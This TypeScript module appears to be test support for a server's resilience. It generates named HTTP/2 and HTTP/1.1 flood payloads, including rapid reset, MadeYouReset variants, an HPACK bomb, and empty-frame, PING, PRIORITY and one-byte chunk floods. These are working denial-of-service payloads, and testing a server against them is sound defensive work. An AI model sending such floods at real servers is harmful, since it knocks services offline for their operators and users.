import { encodeFrame, encodeHeaders, flag, number32, type } from "../../kernel/http/support/http2-frames.ts";

/** What a flooder sends on each of its connections. */
export interface Flood {
  /** Bytes of HTTP/1.1; absent: HTTP/2. */
  readonly isHttp1?: true;
  readonly first?: Uint8Array;
  /** What follows, again and again; rounds count from 0. */
  readonly next: (round: number) => Uint8Array;
}

const none = Buffer.alloc(0);
const whole = flag.endHeaders | flag.endStream;
const head = {
  ":method": "POST",
  ":scheme": "http",
  ":path": "/gatehouse.v1.ProjectService/AddProject",
  ":authority": "a",
};

/** Returns the floods by their names. `authorization` is that of a good caller, who may flood as well as anybody. */
export function createFloods(authorization: string): Readonly<Record<string, Flood>> {
  const call = { ...head, authorization, "content-type": "application/grpc", te: "trailers" };
  const block = encodeHeaders(call);
  const open = (id: number) => encodeFrame(type.headers, flag.endHeaders, id, block);
  const opened = open(1);
  return {
    "one-byte DATA": oneByteData(block),
    "one-byte DATA, wrong token": oneByteData(encodeHeaders({ ...call, authorization: "Bearer wrong" })),
    "one-byte chunks": oneByteChunks(authorization),
    "one-byte chunks, wrong token": oneByteChunks("Bearer wrong"),
    "HPACK bomb": hpackBomb(),
    "rapid reset": ofStreams((id) => [
      encodeFrame(type.headers, whole, id, block),
      encodeFrame(type.resetStream, flag.none, id, number32(8)),
    ]),
    "MadeYouReset: WINDOW_UPDATE 0": ofStreams((id) => [
      open(id),
      encodeFrame(type.windowUpdate, flag.none, id, number32(0)),
    ]),
    "MadeYouReset: content-length": ofStreams((id) => [
      encodeFrame(type.headers, flag.endHeaders, id, encodeHeaders({ ...call, "content-length": "1" })),
      encodeFrame(type.data, flag.endStream, id, Buffer.from("123")),
    ]),
    "empty CONTINUATION": same(
      encodeFrame(type.continuation, flag.none, 1),
      encodeFrame(type.headers, flag.none, 1, block),
    ),
    "empty DATA": same(encodeFrame(type.data, flag.none, 1), opened),
    PRIORITY: ofStreams((id) => [encodeFrame(type.priority, flag.none, id, Buffer.of(0, 0, 0, 0, 1))]),
    PING: same(encodeFrame(type.ping, flag.none, 0, Buffer.alloc(8))),
  };
}

function repeat(bytes: Uint8Array, count: number): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => bytes));
}

/** 64 kB of the same frame. */
function same(frame: Uint8Array, first: Uint8Array = none): Flood {
  const many = repeat(frame, Math.ceil(65_536 / frame.length));
  return { first, next: () => many };
}

/** Frames for 100 new streams in each round; made once, as to make them costs more than to send them. */
function ofStreams(framesOf: (id: number) => readonly Uint8Array[]): Flood {
  const rounds: Buffer[] = [];
  const make = (round: number) =>
    Buffer.concat(Array.from({ length: 100 }, (_, index) => framesOf(2 * (100 * round + index) + 1)).flat());
  return { next: (round) => (rounds[round] ??= make(round)) };
}

function oneByteData(block: Uint8Array): Flood {
  const ids = Array.from({ length: 100 }, (_, index) => 2 * index + 1);
  const bytes = Buffer.concat(ids.map((id) => encodeFrame(type.data, flag.none, id, Buffer.of(0))));
  return {
    ...same(bytes),
    first: Buffer.concat(ids.map((id) => encodeFrame(type.headers, flag.endHeaders, id, block))),
  };
}

function oneByteChunks(authorization: string): Flood {
  const lines = [
    "POST /v1/projects HTTP/1.1",
    "Host: a",
    `Authorization: ${authorization}`,
    "Content-Type: application/json",
    "Transfer-Encoding: chunked",
  ];
  return {
    ...same(Buffer.from("1\r\n \r\n"), Buffer.from(`${lines.join("\r\n")}\r\n\r\n`)),
    isHttp1: true,
  };
}

/** RFC 7541 §6.2.1 puts 4 kB into the table; §6.1 names the entry with one byte, 15,000 times. */
function hpackBomb(): Flood {
  const entry = encodeHeaders({ "x-b": "b".repeat(4000) }, 0x40);
  const bomb = Buffer.concat([encodeHeaders(head), Buffer.alloc(15_000, 0xbe)]);
  return {
    first: encodeFrame(type.headers, whole, 1, Buffer.concat([encodeHeaders(head), entry])),
    next: (round) => encodeFrame(type.headers, whole, 2 * round + 3, bomb),
  };
}
